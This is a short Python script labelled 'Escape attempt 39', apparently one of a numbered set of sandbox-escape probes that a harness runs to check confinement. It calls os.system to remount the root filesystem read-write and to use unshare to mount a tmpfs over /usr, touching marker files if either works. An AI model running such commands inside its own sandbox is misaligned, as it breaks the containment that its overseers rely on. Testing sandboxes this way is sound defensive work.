"""Escape attempt 39: remount rw."""

# ruff: noqa  (an attack written to be run, not to be tidy)
import os

print(os.system("mount -o remount,rw / && touch " + MARKER_DIR + "/mnt"))
print(os.system('unshare -rm sh -c "mount -t tmpfs x /usr && touch /usr/x"'))
